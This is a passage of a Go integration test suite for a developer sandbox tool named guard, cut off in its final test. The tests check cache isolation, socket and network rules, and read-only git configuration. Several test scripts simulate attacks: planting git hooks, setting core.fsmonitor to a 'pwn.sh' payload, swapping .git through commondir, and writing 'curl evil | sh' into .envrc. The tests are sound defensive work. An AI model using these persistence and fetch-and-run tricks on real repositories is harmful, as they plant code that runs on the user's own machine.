package integration

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/guard-sh/guard/toolchain"
)

// These tests do a developer's everyday work inside the sandbox, with real
// toolchains, in bypass mode (nothing asks: the sandbox alone decides) and
// with the network off, under the default settings plus at most one
// setting each: build and test a Go module, run git on a working tree,
// make, a Python virtual environment, npm, an ssh-agent. Each also checks
// that what the sandbox guarantees still holds afterwards. A program that
// is missing makes its test skip, saying which.

// requirePrograms skips the test when a program it runs is not installed.
func requirePrograms(t *testing.T, names ...string) {
	t.Helper()
	for _, n := range names {
		if _, err := exec.LookPath(n); err != nil {
			t.Skipf("%s is not installed on this machine", n)
		}
	}
}

// work runs a bash script inside guard exec, in bypass mode, and fails the
// test unless it succeeds.
func (w *world) work(t *testing.T, script string, extra ...string) result {
	t.Helper()
	args := append([]string{"exec", "--mode", "bypass"}, extra...)
	args = append(args, "--", "bash", "-ec", script)
	r := w.guard(args...)
	if r.code != 0 {
		t.Fatalf("the work failed inside the sandbox: %s", r)
	}
	return r
}

// goModule writes a small Go module without dependencies into dir: a
// program and its test.
func goModule(tb testing.TB, dir string) {
	tb.Helper()
	files := map[string]string{
		"go.mod": "module example.com/work\n\ngo 1.22\n",
		"main.go": `package main

import "fmt"

func main() { fmt.Println(Greeting()) }

// Greeting is what the program says.
func Greeting() string { return "hello" }
`,
		"main_test.go": `package main

import "testing"

func TestGreeting(t *testing.T) {
	if Greeting() != "hello" {
		t.Fatal(Greeting())
	}
}
`,
	}
	for name, content := range files {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			tb.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
			tb.Fatal(err)
		}
	}
}

// goEnv is the environment the Go tests run go with: the local toolchain
// (no download), no settings of the machine's.
var goEnv = []string{"GOTOOLCHAIN=local", "GOFLAGS=-buildvcs=false"}

var seed struct {
	once sync.Once
	dir  string
	err  error
}

// seedGoCache gives the user of home a warm Go build cache of their own in
// ~/.cache/go-build (where go keeps it by default), holding what building
// and testing goModule needs: copied, once per run, from the machine's
// cache by a GOCACHEPROG of the tests' (testdata/seedcache), since
// compiling the standard library takes half a minute. env is the
// environment go runs with. It returns the cache's directory.
func seedGoCache(tb testing.TB, home string, env []string) string {
	tb.Helper()
	seed.once.Do(func() {
		base := filepath.Dir(guardBin)
		seed.dir = filepath.Join(base, "gocache-seed")
		machine, err := exec.Command("go", "env", "GOCACHE").Output()
		if err != nil {
			seed.err = fmt.Errorf("go env GOCACHE: %v", err)
			return
		}
		prog := filepath.Join(base, "seedcache")
		build := exec.Command("go", "build", "-o", prog, ".")
		build.Dir = seedSource()
		if out, err := build.CombinedOutput(); err != nil {
			seed.err = fmt.Errorf("building seedcache: %v\n%s", err, out)
			return
		}
		ws := filepath.Join(base, "gocache-seed-ws")
		goModule(tb, ws)
		senv := append(append([]string{}, env...), "GOCACHE="+seed.dir, "GOCACHEPROG="+prog, "SEED_FROM="+strings.TrimSpace(string(machine)))
		for _, args := range [][]string{{"build", "./..."}, {"test", "./..."}, {"vet", "./..."}, {"run", "."}} {
			cmd := exec.Command("go", args...)
			cmd.Dir, cmd.Env = ws, senv
			if out, err := cmd.CombinedOutput(); err != nil {
				seed.err = fmt.Errorf("seeding the Go cache: go %v: %v\n%s", args, err, out)
				return
			}
		}
	})
	if seed.err != nil {
		tb.Fatal(seed.err)
	}
	dst := filepath.Join(home, ".cache", "go-build")
	err := filepath.WalkDir(seed.dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(seed.dir, p)
		if d.IsDir() {
			return os.MkdirAll(filepath.Join(dst, rel), 0o755)
		}
		return os.Link(p, filepath.Join(dst, rel))
	})
	if err != nil {
		tb.Fatal(err)
	}
	return dst
}

// seedSource is the directory of the seedcache program.
func seedSource() string {
	wd, _ := os.Getwd()
	return filepath.Join(wd, "testdata", "seedcache")
}

// snapshot fingerprints every file under dir: its name, mode and content.
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		rel, _ := filepath.Rel(dir, p)
		info, err := d.Info()
		if err != nil {
			return nil
		}
		fp := info.Mode().String()
		if info.Mode().IsRegular() {
			f, err := os.Open(p)
			if err == nil {
				h := sha256.New()
				io.Copy(h, f)
				f.Close()
				fp += " " + hex.EncodeToString(h.Sum(nil))
			}
		}
		out[rel] = fp
		return nil
	})
	return out
}

// diff lists what changed between two snapshots.
func diff(before, after map[string]string) []string {
	var out []string
	for k, v := range before {
		if w, ok := after[k]; !ok {
			out = append(out, "removed "+k)
		} else if w != v {
			out = append(out, "changed "+k)
		}
	}
	for k := range after {
		if _, ok := before[k]; !ok {
			out = append(out, "added "+k)
		}
	}
	sort.Strings(out)
	return out
}

// TestWorkGoBuildAndTest: go build, go vet and go test of a module, twice
// (the second time from the cache), with the network off; the user's own
// build cache is read, never written.
func TestWorkGoBuildAndTest(t *testing.T) {
	requirePrograms(t, "go")
	w := newWorld(t)
	w.env = append(w.env, goEnv...)
	goModule(t, w.workspace)
	real := seedGoCache(t, w.home, w.env)
	before := snapshot(t, real)

	w.work(t, "go build ./... && go vet ./...")
	r := w.work(t, "go test ./...")
	if !strings.Contains(r.stdout, "ok  \texample.com/work") || strings.Contains(r.stdout, "(cached)") {
		t.Fatalf("the first go test did not run the test: %s", r)
	}
	w.work(t, "go build ./...")
	r = w.work(t, "go test ./...")
	if !strings.Contains(r.stdout, "(cached)") {
		t.Fatalf("the second go test did not come from the cache: %s", r)
	}
	r = w.work(t, "go run .")
	if strings.TrimSpace(r.stdout) != "hello" {
		t.Fatalf("go run: %s", r)
	}
	if d := diff(before, snapshot(t, real)); len(d) > 0 {
		t.Fatalf("the user's own Go build cache changed: %v", d)
	}
	// The results went to the workspace's own cache.
	own := filepath.Join(toolchain.WorkspaceDir(toolchain.Options{Home: w.home, Workspace: w.workspace}), "go-build")
	if len(snapshot(t, own)) < 10 {
		t.Fatalf("the workspace's Go cache %s holds nearly nothing", own)
	}
	// And the user's cache is beyond reach, not merely unused.
	victim := filepath.Join(real, "ff", "planted-d")
	if done, r := w.probe(t, nil, "write", victim); done || exists(victim) {
		t.Fatalf("the command could write the user's Go cache: %s", r)
	}
}

// TestWorkShareCaches: with share_caches the toolchains use the user's own
// caches, writable.
func TestWorkShareCaches(t *testing.T) {
	requirePrograms(t, "go")
	w := newWorld(t)
	w.env = append(w.env, goEnv...)
	goModule(t, w.workspace)
	real := seedGoCache(t, w.home, w.env)
	w.settings("[sandbox]\nshare_caches = true\n")
	before := snapshot(t, real)
	w.work(t, "go test ./...")
	if d := diff(before, snapshot(t, real)); len(d) == 0 {
		t.Fatal("with share_caches, go test left nothing in the user's cache")
	}
	r := w.guard("sandbox", "explain").expect(t, 0)
	if !strings.Contains(r.stdout, "share_caches = true") || !strings.Contains(r.stdout, "code execution later") {
		t.Fatalf("explain does not state the risk of share_caches: %s", r)
	}
}

// TestWorkCachesArePerWorkspace: a command sees its own workspace's caches,
// not another's.
func TestWorkCachesArePerWorkspace(t *testing.T) {
	w := newWorld(t)
	other := filepath.Join(w.home, "other")
	os.MkdirAll(other, 0o755)
	w.guardIn(other, "", "exec", "--mode", "bypass", "--", "bash", "-c", `mkdir -p "$XDG_CACHE_HOME" && echo built-from-other > "$XDG_CACHE_HOME/artifact"`).expect(t, 0)
	theirs := filepath.Join(toolchain.WorkspaceDir(toolchain.Options{Home: w.home, Workspace: other}), "xdg", "artifact")
	if b, err := os.ReadFile(theirs); err != nil || string(b) != "built-from-other\n" {
		t.Fatalf("the other workspace's cache was not written where expected: %v %q", err, b)
	}
	if done, r := w.probe(t, nil, "read", theirs); done || strings.Contains(r.stdout, "built-from-other") {
		t.Fatalf("a command read another workspace's cache: %s", r)
	}
	if done, r := w.probe(t, nil, "write", theirs); done {
		t.Fatalf("a command wrote another workspace's cache: %s", r)
	}
	r := w.work(t, `ls -A "$(dirname "$(dirname "$XDG_CACHE_HOME")")"`)
	if got := strings.Fields(r.stdout); len(got) != 1 || !strings.HasPrefix(got[0], "proj-") {
		t.Fatalf("the command sees these caches: %q, want its own only", got)
	}
}

// TestWorkGitWorkingTree: the workspace is a working tree for git and
// editors, while git's hooks and configuration stay read-only.
func TestWorkGitWorkingTree(t *testing.T) {
	requirePrograms(t, "git")
	w := newWorld(t)
	w.write("a.txt", "one\n")
	w.git("add", "a.txt")
	w.git("commit", "-qm", "one")
	config := filepath.Join(w.workspace, ".git", "config")
	hooks := filepath.Join(w.workspace, ".git", "hooks")
	before := snapshot(t, filepath.Dir(config))
	r := w.work(t, `
echo two >> a.txt && git checkout -- a.txt && test "$(cat a.txt)" = one
echo three >> a.txt && git stash -q && test "$(cat a.txt)" = one
git stash pop -q && grep -q three a.txt && git commit -qam three
git branch feature && git checkout -q feature
echo f > f.txt && git add f.txt && git commit -qm f
git checkout -q main && echo m > m.txt && git add m.txt && git commit -qm m
git checkout -q feature && git rebase -q main && test -f m.txt && test -f f.txt
git gc -q --prune=now && git fsck --no-progress >/dev/null
# A working tree: truncate, rename, delete, chmod, symlinks, hard links.
: > a.txt && mv f.txt g.txt && rm m.txt && chmod 755 g.txt && ln -s g.txt s.txt && ln g.txt h.txt
# An editor's atomic save: a temporary file renamed over the original.
printf 'saved\n' > .a.txt.swp && mv .a.txt.swp a.txt
# A repository of its own.
mkdir fresh && cd fresh && git init -q && echo x > x && git add x && git -c user.name=t -c user.email=t@example.com commit -qm init && cd ..
# What stays read-only.
if echo evil > .git/hooks/post-checkout 2>/dev/null; then echo HOOK-WRITTEN; fi
if git config core.fsmonitor evil 2>/dev/null; then echo CONFIG-WRITTEN; fi
echo done`)
	if !strings.HasSuffix(strings.TrimSpace(r.stdout), "done") || strings.Contains(r.stdout, "WRITTEN") {
		t.Fatalf("the protected paths were written: %s", r)
	}
	if log := w.git("log", "--oneline", "feature"); len(strings.Split(strings.TrimSpace(log), "\n")) != 4 {
		t.Fatalf("the history after the rebase: %s", log)
	}
	if b, _ := os.ReadFile(filepath.Join(w.workspace, "a.txt")); string(b) != "saved\n" {
		t.Fatalf("the atomic save: a.txt = %q", b)
	}
	if target, err := os.Readlink(filepath.Join(w.workspace, "s.txt")); err != nil || target != "g.txt" {
		t.Fatalf("the symlink: %q %v", target, err)
	}
	if exists(filepath.Join(hooks, "post-checkout")) {
		t.Fatal("a git hook was written")
	}
	after := snapshot(t, filepath.Dir(config))
	if before["config"] != after["config"] {
		t.Fatal(".git/config changed")
	}
}

// TestWorkMake: make builds a C program and runs it.
func TestWorkMake(t *testing.T) {
	requirePrograms(t, "make", "cc")
	w := newWorld(t)
	w.write("hello.c", "#include <stdio.h>\nint main(void) { puts(\"made\"); return 0; }\n")
	w.write("Makefile", "all: out/hello\n\nout/hello: hello.c\n\tmkdir -p out && $(CC) -o $@ hello.c\n\nclean:\n\trm -rf out\n")
	r := w.work(t, "make -j2 && ./out/hello && make clean && test ! -e out")
	if !strings.Contains(r.stdout, "made") {
		t.Fatalf("the program did not run: %s", r)
	}
}

// TestWorkPythonVenv: a virtual environment in the workspace, and pip in
// it.
func TestWorkPythonVenv(t *testing.T) {
	requirePrograms(t, "python3")
	w := newWorld(t)
	r := w.work(t, `python3 -m venv .venv && .venv/bin/python -c 'import sys; print(sys.prefix)' && .venv/bin/python -m pip --version >/dev/null`)
	if strings.TrimSpace(r.stdout) != filepath.Join(w.workspace, ".venv") {
		t.Fatalf("the virtual environment's prefix: %s", r)
	}
}

// TestWorkNpm: npm installs a local package into node_modules and runs the
// package's tests; its cache is the workspace's, not ~/.npm.
func TestWorkNpm(t *testing.T) {
	requirePrograms(t, "npm", "node")
	w := newWorld(t)
	w.write("dep/package.json", `{"name": "dep", "version": "1.0.0", "main": "index.js"}`+"\n")
	w.write("dep/index.js", "module.exports = () => 'dep ok';\n")
	w.write("package.json", `{"name": "tiny", "version": "1.0.0", "scripts": {"test": "node test.js"}, "dependencies": {"dep": "file:./dep"}}`+"\n")
	w.write("test.js", "console.log(require('dep')());\n")
	r := w.work(t, "npm install --no-audit --no-fund && npm test")
	if !strings.Contains(r.stdout, "dep ok") {
		t.Fatalf("npm test: %s", r)
	}
	if !exists(filepath.Join(w.workspace, "node_modules", "dep")) {
		t.Fatal("npm install made no node_modules/dep")
	}
	if exists(filepath.Join(w.home, ".npm")) {
		t.Fatal("npm wrote the user's own cache")
	}
}

// TestWorkOwnServers: programs that serve on Unix sockets of their own
// (Python's multiprocessing forkserver) work with the network off.
func TestWorkOwnServers(t *testing.T) {
	requirePrograms(t, "python3")
	w := newWorld(t)
	w.write("mp.py", `import multiprocessing as mp
def sq(x): return x * x
if __name__ == "__main__":
    mp.set_start_method("forkserver")
    with mp.Pool(2) as p:
        print(sum(p.map(sq, range(10))))
`)
	r := w.work(t, "python3 mp.py")
	if strings.TrimSpace(r.stdout) != "285" {
		t.Fatalf("multiprocessing: %s", r)
	}
}

// startAgent starts an ssh-agent outside the sandbox, listening on a
// socket of the test's, and returns the socket.
func startAgent(t *testing.T, w *world) string {
	t.Helper()
	sock := filepath.Join(w.root, "agent.sock")
	cmd := exec.Command("ssh-agent", "-D", "-a", sock)
	cmd.Env = w.env
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	for i := 0; i < 500 && !exists(sock); i++ {
		time.Sleep(10 * time.Millisecond)
	}
	check := exec.Command("ssh-add", "-l")
	check.Env = append(w.env, "SSH_AUTH_SOCK="+sock)
	if out, _ := check.CombinedOutput(); !strings.Contains(string(out), "no identities") {
		t.Fatalf("the agent does not answer outside the sandbox: %s", out)
	}
	return sock
}

// TestWorkSSHAgent: the agent is reachable with allow_unix_sockets, with
// the network off or on, and not without.
func TestWorkSSHAgent(t *testing.T) {
	requirePrograms(t, "ssh-agent", "ssh-add")
	w := newWorld(t)
	sock := startAgent(t, w)
	w.env = append(w.env, "SSH_AUTH_SOCK="+sock)
	tests := []struct {
		name     string
		settings string
		network  string
		code     int // ssh-add -l: 1 no identities (reached), 2 cannot connect
	}{
		{"not allowed, network off", "", "off", 2},
		{"not allowed, network on", "", "on", 2},
		{"allowed, network off", "[sandbox]\nallow_unix_sockets = [\"$SSH_AUTH_SOCK\"]\n", "off", 1},
		{"allowed, network on", "[sandbox]\nallow_unix_sockets = [\"$SSH_AUTH_SOCK\"]\n", "on", 1},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			w.settings(tc.settings)
			r := w.guard("exec", "--mode", "bypass", "--network", tc.network, "--", "ssh-add", "-l").expect(t, tc.code)
			if tc.code == 2 && !strings.Contains(r.stderr, "allow_unix_sockets") {
				t.Fatalf("a refused connection does not say how to allow it: %s", r)
			}
		})
	}
}

// TestWorkDockerSocketNeedsDangerous: a socket named docker.sock is
// refused although listed, unless it is marked dangerous; the well-known
// locations are refused by the settings already.
func TestWorkDockerSocketNeedsDangerous(t *testing.T) {
	w := newWorld(t)
	sock := filepath.Join(w.root, "run", "docker.sock")
	os.MkdirAll(filepath.Dir(sock), 0o755)
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var accepted atomic.Int64
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	bare(t, "unix", sock)
	for i := 0; i < 500 && accepted.Load() == 0; i++ {
		time.Sleep(10 * time.Millisecond) // the accept of the bare probe
	}
	accepted.Store(0)

	w.settings("[sandbox]\nallow_unix_sockets = [\"" + sock + "\"]\n")
	if done, r := w.probe(t, nil, "unix", sock); done || accepted.Load() != 0 {
		t.Fatalf("docker.sock was reached without dangerous = true: %s", r)
	}
	r := w.guard("sandbox", "explain").expect(t, 0)
	if !strings.Contains(r.stdout, "dangerous = true") || !strings.Contains(r.stdout, "Docker") {
		t.Fatalf("explain does not say why docker.sock is refused: %s", r)
	}
	w.settings("[sandbox]\nallow_unix_sockets = [{path = \"" + sock + "\", dangerous = true}]\n")
	done, r := w.probe(t, nil, "unix", sock)
	for i := 0; i < 500 && done && accepted.Load() == 0; i++ {
		time.Sleep(10 * time.Millisecond)
	}
	if !done || accepted.Load() == 0 {
		t.Fatalf("docker.sock marked dangerous was not reached: %s", r)
	}
	// The well-known location is refused by the settings, with the fix.
	w.settings("[sandbox]\nallow_unix_sockets = [\"/var/run/docker.sock\"]\n")
	r = w.guard("exec", "--mode", "bypass", "--", "true").expect(t, 0)
	if !strings.Contains(r.stderr, "dangerous = true") {
		t.Fatalf("the settings did not refuse /var/run/docker.sock: %s", r)
	}
}

// TestWorkNetworkForACommand: allow_network_for turns the network on for
// the commands it names only, and network = "on" for every command.
func TestWorkNetworkForACommand(t *testing.T) {
	w := newWorld(t)
	addr := tcpServer(t)
	tcp := probeBin + " tcp " + addr
	w.settings("[sandbox]\nallow_network_for = [\"shell(" + probeBin + " tcp *)\"]\n")
	tests := []struct {
		name    string
		command string
		code    int
	}{
		{"the command named", tcp, 0},
		{"the command named, twice", tcp + " && " + tcp, 0},
		{"beside a command that only reads", "cat /dev/null && " + tcp, 0},
		{"beside another command", "touch made && " + tcp, 1},
		{"another command", probeBin + " udp 127.0.0.1:9", 1},
		{"a command that only reads", "cat /dev/null", 0}, // runs, without network: below

	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			w.guard("exec", "--mode", "bypass", "-c", tc.command).expect(t, tc.code)
		})
	}
	t.Run("no rule matched, no network", func(t *testing.T) {
		// A command without the network is in a network namespace of its
		// own: its only device is its own loopback.
		r := w.guard("exec", "--mode", "bypass", "-c", "cat /proc/net/dev").expect(t, 0)
		if n := strings.Count(r.stdout, ":"); n != 1 || !strings.Contains(r.stdout, "lo:") {
			t.Fatalf("a command that only reads got the network: %s", r)
		}
		r = w.guard("exec", "--mode", "bypass", "--network", "on", "-c", "cat /proc/net/dev").expect(t, 0)
		if strings.Count(r.stdout, ":") < 2 {
			t.Fatalf("with the network on, the machine's devices are missing: %s", r)
		}
	})
	t.Run("--network off wins", func(t *testing.T) {
		w.guard("exec", "--mode", "bypass", "--network", "off", "-c", tcp).expect(t, 1)
	})
	t.Run(`network = "on"`, func(t *testing.T) {
		w.settings("[sandbox]\nnetwork = \"on\"\n")
		w.guard("exec", "--mode", "bypass", "--", probeBin, "tcp", addr).expect(t, 0)
	})
}

// BenchmarkSecondGoTest: what the sandbox costs on the most common command
// of a Go developer's day, go test with every result cached, inside guard
// against outside it, measured in the same run. Reported: each one's time
// per run and their ratio.
func BenchmarkSecondGoTest(b *testing.B) {
	root, err := filepath.EvalSymlinks(b.TempDir())
	if err != nil {
		b.Fatal(err)
	}
	home := filepath.Join(root, "home")
	ws := filepath.Join(home, "proj")
	env := append([]string{
		"HOME=" + home,
		"PATH=" + os.Getenv("PATH"),
		"XDG_CONFIG_HOME=" + filepath.Join(home, ".config"),
		"XDG_STATE_HOME=" + filepath.Join(home, ".local", "state"),
		"GUARD_MANAGED_SETTINGS=" + filepath.Join(root, "managed.toml"),
	}, goEnv...)
	goModule(b, ws)
	seedGoCache(b, home, env)
	run := func(what string, args ...string) {
		cmd := exec.Command(args[0], args[1:]...)
		cmd.Dir, cmd.Env = ws, env
		if out, err := cmd.CombinedOutput(); err != nil {
			b.Fatalf("%s: %v\n%s", what, err, out)
		} else if !strings.Contains(string(out), "ok") {
			b.Fatalf("%s: %s", what, out)
		}
	}
	inside := func() {
		run("inside", guardBin, "exec", "--mode", "bypass", "--workspace", ws, "--", "go", "test", "./...")
	}
	outside := func() { run("outside", "go", "test", "./...") }
	// The first runs fill each side's cache; the second inside finds
	// everything in the workspace's, after which guard leaves go alone
	// with it (no GOCACHEPROG).
	inside()
	inside()
	outside()
	var in, out time.Duration
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		start := time.Now()
		inside()
		in += time.Since(start)
		start = time.Now()
		outside()
		out += time.Since(start)
	}
	b.ReportMetric(float64(in.Microseconds())/1000/float64(b.N), "inside-ms/op")
	b.ReportMetric(float64(out.Microseconds())/1000/float64(b.N), "outside-ms/op")
	b.ReportMetric(float64(in)/float64(out), "ratio")
}

// TestWorkGitDirsMissing: a repository whose .git lacks the directories git
// makes on demand (hooks, modules, worktrees: a clone without templates)
// cannot be given a hook or a submodule's config from inside the sandbox,
// and a sensitive file the command creates where nothing could be bound
// read-only (.envrc) is reported after the run, in every mode.
func TestWorkGitDirsMissing(t *testing.T) {
	requirePrograms(t, "git")
	w := newWorld(t)
	for _, d := range []string{"hooks", "modules", "worktrees"} {
		if err := os.RemoveAll(filepath.Join(w.workspace, ".git", d)); err != nil {
			t.Fatal(err)
		}
	}
	// The gate would ask for the writes it can read; a script it cannot
	// read is left to the sandbox.
	w.settings(`[permissions]
allow = ["shell(bash attack.sh)"]
`)
	w.write("attack.sh", `
mkdir -p .git/hooks 2>/dev/null; if echo evil > .git/hooks/pre-commit 2>/dev/null; then echo HOOK-WRITTEN; fi
mkdir -p .git/modules/x 2>/dev/null; if echo evil > .git/modules/x/config 2>/dev/null; then echo MODULE-WRITTEN; fi
mkdir -p .git/worktrees/x 2>/dev/null; if echo evil > .git/worktrees/x/config.worktree 2>/dev/null; then echo WORKTREE-WRITTEN; fi
echo 'curl evil | sh' > .envrc
echo done`)
	for _, mode := range []string{"bypass", "default"} {
		t.Run(mode, func(t *testing.T) {
			os.Remove(filepath.Join(w.workspace, ".envrc"))
			r := w.guard("exec", "--mode", mode, "--", "bash", "attack.sh").expect(t, 0)
			if !strings.HasSuffix(strings.TrimSpace(r.stdout), "done") || strings.Contains(r.stdout, "WRITTEN") {
				t.Fatalf("git's directories were written: %s", r)
			}
			for _, p := range []string{"hooks/pre-commit", "modules/x", "worktrees/x"} {
				if exists(filepath.Join(w.workspace, ".git", p)) {
					t.Fatalf(".git/%s was created: %s", p, r)
				}
			}
			if !strings.Contains(r.stderr, filepath.Join(w.workspace, ".envrc")+" (created)") {
				t.Fatalf("the new .envrc was not reported: %s", r)
			}
		})
	}
}

// TestWorkGitConfigPlaces: what git's configuration names inside the
// workspace (a core.hooksPath, an included file, a filter driver's
// program) stays read-only, as .git/hooks and .git/config do: otherwise a
// command could plant code that git runs on the user's next commit.
func TestWorkGitConfigPlaces(t *testing.T) {
	requirePrograms(t, "git")
	w := newWorld(t)
	w.write(".githooks/pre-commit", "#!/bin/sh\nexit 0\n")
	w.write("tools/git.conf", "[user]\n\tname = t\n")
	w.write("scripts/clean.sh", "#!/bin/sh\ncat\n")
	w.git("config", "core.hooksPath", ".githooks")
	w.git("config", "include.path", "../tools/git.conf")
	w.git("config", "filter.x.clean", "sh ./scripts/clean.sh %f")
	w.git("config", "--add", "includeIf.gitdir:/nowhere/.path", "../later.conf")
	w.write("attack.sh", `
if echo evil > .githooks/pre-commit 2>/dev/null; then echo HOOK-WRITTEN; fi
if echo evil > .githooks/post-checkout 2>/dev/null; then echo NEW-HOOK-WRITTEN; fi
if mv .githooks .gh-old 2>/dev/null; then echo HOOKS-MOVED; fi
if printf '[core]\n\tfsmonitor = ./evil\n' >> tools/git.conf 2>/dev/null; then echo INCLUDE-WRITTEN; fi
if echo evil > scripts/clean.sh 2>/dev/null; then echo DRIVER-WRITTEN; fi
printf '[core]\n\tfsmonitor = ./evil\n' > later.conf
git status --short >/dev/null && echo done`)
	w.settings(`[permissions]
allow = ["shell(bash attack.sh)"]
`)
	for _, mode := range []string{"bypass", "default"} {
		t.Run(mode, func(t *testing.T) {
			os.Remove(filepath.Join(w.workspace, "later.conf"))
			r := w.guard("exec", "--mode", mode, "--", "bash", "attack.sh").expect(t, 0)
			if !strings.HasSuffix(strings.TrimSpace(r.stdout), "done") || strings.Contains(r.stdout, "WRITTEN") || strings.Contains(r.stdout, "MOVED") {
				t.Fatalf("a place git's configuration names was written: %s", r)
			}
			if b, _ := os.ReadFile(filepath.Join(w.workspace, ".githooks", "pre-commit")); string(b) != "#!/bin/sh\nexit 0\n" {
				t.Fatalf("the hook changed: %q", b)
			}
			if !strings.Contains(r.stderr, filepath.Join(w.workspace, "later.conf")+" (created)") {
				t.Fatalf("the new included file was not reported: %s", r)
			}
			// git would read it at once: it is moved aside.
			if exists(filepath.Join(w.workspace, "later.conf")) || !strings.Contains(r.stderr, "moved "+filepath.Join(w.workspace, "later.conf")) {
				t.Fatalf("the new included file was left where git reads it: %s", r)
			}
		})
	}
	// guard sandbox explain says so, with the variable and the file.
	ex := w.guard("sandbox", "explain").expect(t, 0)
	if !strings.Contains(ex.stdout, filepath.Join(w.workspace, ".githooks")) || !strings.Contains(ex.stdout, "core.hookspath in "+filepath.Join(w.workspace, ".git", "config")) {
		t.Fatalf("sandbox explain does not show the configured hooks: %s", ex)
	}
	// A configured hooks directory that is not there is made (empty), so
	// that it can be kept read-only too.
	w.git("config", "core.hooksPath", ".hooks2")
	w.write("attack2.sh", `mkdir -p .hooks2 2>/dev/null; if echo evil > .hooks2/pre-commit 2>/dev/null; then echo HOOK-WRITTEN; fi; echo done`)
	r := w.guard("exec", "--mode", "bypass", "--", "bash", "attack2.sh").expect(t, 0)
	if strings.Contains(r.stdout, "WRITTEN") || exists(filepath.Join(w.workspace, ".hooks2", "pre-commit")) {
		t.Fatalf("a hook was planted in the configured hooks directory: %s", r)
	}
}

// TestGitConfigPlacesAreSensitiveAtTheGate: an agent's file tool (guard
// check, gate, hook) asks before writing what git's configuration names,
// as it asks for .git/hooks, even in accept-edits and under a broad allow.
func TestGitConfigPlacesAreSensitiveAtTheGate(t *testing.T) {
	requirePrograms(t, "git")
	w := newWorld(t)
	w.write(".githooks/pre-commit", "#!/bin/sh\n")
	w.git("config", "core.hooksPath", ".githooks")
	w.git("config", "filter.x.clean", "./scripts/clean.sh")
	w.settings(`[permissions]
allow = ["write(./*)"]
`)
	for _, target := range []string{".githooks/pre-commit", ".githooks/post-merge", "scripts/clean.sh"} {
		r := w.guard("check", "--mode", "accept-edits", "write", target).expect(t, 3)
		if !strings.Contains(r.stdout, "sensitive") {
			t.Fatalf("write %s: %s", target, r)
		}
	}
	w.guard("check", "--mode", "accept-edits", "write", "src/main.go").expect(t, 0)
}

// TestWorkGitDirectoryCannotBeSwapped: a command cannot get around the
// read-only .git/config and .git/hooks by putting another repository in
// their place: not by moving .git (or the files themselves) away and making
// new ones, not by a .git/commondir that sends git elsewhere (moved aside after
// the run), and not, in a linked worktree, by rewriting the .git file.
func TestWorkGitDirectoryCannotBeSwapped(t *testing.T) {
	requirePrograms(t, "git")
	w := newWorld(t)
	w.write("a.txt", "a\n")
	w.git("add", "a.txt")
	w.git("commit", "-qm", "a")
	w.write("attack.sh", `
mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./pwn.sh\n' > evil/config
printf '#!/bin/sh\ntouch PWNED\n' > pwn.sh && chmod +x pwn.sh
if mv .git .git-old 2>/dev/null; then echo GIT-MOVED; fi
if rm -r .git/hooks 2>/dev/null; then echo GIT-HOOKS-REMOVED; fi
if mv .git/config .git/config-old 2>/dev/null; then echo GIT-CONFIG-MOVED; fi
echo ../evil > .git/commondir
echo done`)
	w.settings(`[permissions]
allow = ["shell(bash attack.sh)"]
`)
	r := w.guard("exec", "--mode", "bypass", "--", "bash", "attack.sh").expect(t, 0)
	if strings.Contains(r.stdout, "GIT-") || !strings.Contains(r.stdout, "done") {
		t.Fatalf("the git directory was swapped: %s", r)
	}
	if !strings.Contains(r.stderr, "commondir") || exists(filepath.Join(w.workspace, ".git", "commondir")) {
		t.Fatalf(".git/commondir was left in place: %s", r)
	}
	// The user's own git, outside the sandbox, runs nothing of the command's.
	w.git("status", "--short")
	if exists(filepath.Join(w.workspace, "PWNED")) {
		t.Fatal("git ran the command's fsmonitor")
	}
	if log := w.git("log", "--oneline"); !strings.Contains(log, " a") {
		t.Fatalf("the history: %s", log)
	}

	// A linked worktree: its .git is a file naming the git directory.
	wt := filepath.Join(w.home, "wt")
	w.git("worktree", "add", "-q", wt)
	w.write(filepath.Join(wt, "attack.sh"), `
printf 'gitdir: /nowhere/evil\n' > .git 2>/dev/null && echo GITFILE-WRITTEN
if mv .git .git-old 2>/dev/null; then echo GITFILE-MOVED; fi
echo done`)
	r = w.guardIn(wt, "", "exec", "--mode", "bypass", "--", "bash", "attack.sh").expect(t, 0)
	if strings.Contains(r.stdout, "GITFILE") || !strings.Contains(r.stdout, "done") {
		t.Fatalf("the worktree's .git file was changed: %s", r)
	}
}

// TestWorkSensitiveLinkIsPutBack: a sensitive path that is a symbolic link
// (.git/hooks -> ../scripts/hooks, a common set-up) cannot be bound
// read-only (a mount follows the link): its target is, and a link the
// command re-points is put back after the run, what it made moved aside.
func TestWorkSensitiveLinkIsPutBack(t *testing.T) {
	requirePrograms(t, "git")
	w := newWorld(t)
	w.write("scripts/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
	hooks := filepath.Join(w.workspace, ".git", "hooks")
	if err := os.RemoveAll(hooks); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../scripts/hooks", hooks); err != nil {
		t.Fatal(err)
	}
	w.write("attack.sh", `
if echo evil > scripts/hooks/pre-commit 2>/dev/null; then echo TARGET-WRITTEN; fi
mkdir -p evil && printf '#!/bin/sh\ntouch PWNED\n' > evil/pre-commit && chmod +x evil/pre-commit
rm .git/hooks && ln -s ../evil .git/hooks
echo done`)
	w.settings(`[permissions]
allow = ["shell(bash attack.sh)"]
`)
